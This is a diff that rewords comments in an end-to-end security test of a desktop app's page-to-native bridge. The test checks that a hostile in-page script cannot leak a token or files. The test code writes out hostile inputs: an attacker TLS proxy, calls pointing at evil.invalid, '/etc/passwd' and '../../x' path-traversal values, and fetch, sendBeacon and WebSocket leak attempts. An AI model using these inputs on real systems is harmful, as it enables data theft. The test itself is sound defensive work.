@@ -17,7 +17,7 @@ import type { DesktopHost } from './support/desktop-host';
 import { create, navigation, row, signInForm, signUpOnScreen } from './support/screens';
 import { text } from './support/texts';
 
-/** A stranger's proxy that ends TLS itself with a certificate of its own, and keeps every byte that it is sent. */
+/** A proxy of an attacker. It terminates TLS with a certificate of its own and records every byte received. */
 const startStranger = async (identity: Identity) => {
   const heard: Buffer[] = [];
   const sockets = new Set<Socket>();
@@ -53,7 +53,7 @@ const startStranger = async (identity: Identity) => {
   };
 };
 
-/** Counts whoever connects. */
+/** Counts incoming connections. */
 const startListener = async () => {
   let comers = 0;
   const server = createServer((socket) => { comers += 1; socket.on('error', () => undefined); });
@@ -64,7 +64,7 @@ const startListener = async () => {
 
 interface Hostile { readonly server: string; readonly fingerprint: string; readonly proxyPort: number; readonly secretPath: string; readonly names: readonly string[] }
 
-/** The script of an attacker in a page of the app: it has what `window` has, and knows the certificate of its own proxy. */
+/** An attacker's script in a page of the app: it can use everything in `window`, and knows the certificate of its own proxy. */
 const attack = async ({ server, fingerprint, proxyPort, secretPath, names }: Hostile): Promise<Record<string, string>> => {
   const invoke = (window as unknown as { deckle: { invoke: Record<string, ((input?: unknown) => Promise<unknown>) | undefined> } }).deckle.invoke;
   const proxy = { mode: 'manual', host: '127.0.0.1', port: proxyPort, bypass: ['<-loopback>'] };
@@ -84,7 +84,7 @@ const attack = async ({ server, fingerprint, proxyPort, secretPath, names }: Hos
     'links:open': [{ address: 'https://evil.invalid/' }], 'links:answer': [{ id: '1', agrees: true }], 'downloads:open-outside': [{ guid: 'x', name: '/etc/passwd' }],
     'downloads:drag-file-out': [{ guid: '../../x', name: '/etc/passwd' }], 'downloads:open': [{ id: '/etc/passwd' }], 'downloads:show-in-folder': [{ id: '/etc/passwd' }],
   };
-  /** What ends the page, closes its account or opens a dialog of the system, which a person answers. */
+  /** Calls that end the page, close its account or open a system dialog, which needs a person. */
   const apart = ['window:close', 'window:print', 'window:popup-menu', 'windows:open', 'session:sign-out', 'accounts:sign-out', 'accounts:remove', 'accounts:add', 'accounts:switch', 'updates:restart',
     'files:choose-and-upload', 'files:save', 'files:save-text', 'downloads:choose-folder', 'diagnostics:export', 'window:minimize', 'window:toggle-maximize'];
   const outcome: Record<string, string> = {};
@@ -101,10 +101,10 @@ const attack = async ({ server, fingerprint, proxyPort, secretPath, names }: Hos
   return outcome;
 };
 
-/** The ways of a page itself: requests, navigation, frames, names to look up, WebRTC. */
+/** The channels of a page itself: requests, navigation, frames, DNS lookups, WebRTC. */
 const escape = async ({ port, host }: { readonly port: number; readonly host: string }): Promise<{ readonly own: string; readonly gathered: string }> => {
   const url = `https://127.0.0.1:${port}/?leak`;
-  const quietly = (run: () => unknown): void => { try { void Promise.resolve(run()).catch(() => undefined); } catch { /* Refused, as it should be. */ } };
+  const quietly = (run: () => unknown): void => { try { void Promise.resolve(run()).catch(() => undefined); } catch { /* Refused, as expected. */ } };
   quietly(() => fetch(url));
   quietly(() => navigator.sendBeacon(url, 'leak'));
   quietly(() => new WebSocket(url.replace('https', 'wss')));
@@ -167,7 +167,7 @@ test('a script in a page sends the token to nobody, whatever it asks of the brid
     const proxyNow = () => page.evaluate(() => window.deckle?.invoke['network:proxy']());
 
     await test.step('without a click nothing is asked, nothing changes and nothing is sent', async () => {
-      // What a click before this counted for has passed; the attacker waits for nothing.
+      // The activation of an earlier click has expired; the attacker does not wait.
       await page.evaluate(() => window.deckle?.invoke['network:sign-in']());
       const outcome = await page.evaluate(attack, hostile);
       for (const name of ['servers:choose', 'network:set-proxy', 'session:sign-in', 'session:sign-up', 'window:open-external', 'links:answer', 'desktop-settings:set', 'downloads:open-outside']) {
@@ -181,7 +181,7 @@ test('a script in a page sends the token to nobody, whatever it asks of the brid
       const listed = await page.evaluate(() => window.deckle?.invoke['api:call']({ name: 'files.list', input: { query: { folder: 'Desktop' } } }));
       expect(JSON.stringify(listed)).toContain('Before');
       expect(JSON.stringify(listed)).not.toContain('secret.txt');
-      // What a person chose or dropped is uploaded, by the same function.
+      // Chosen and dropped files are uploaded by the same function.
       await page.evaluate(() => { document.body.append(Object.assign(document.createElement('input'), { type: 'file', id: 'chosen' })); });
       await page.locator('#chosen').setInputFiles(secretPath);
       const chosen = await page.evaluate(() => window.deckle?.invoke['files:upload-dropped']({ files: [...document.querySelector<HTMLInputElement>('#chosen')?.files ?? []], folder: 'Desktop' }));
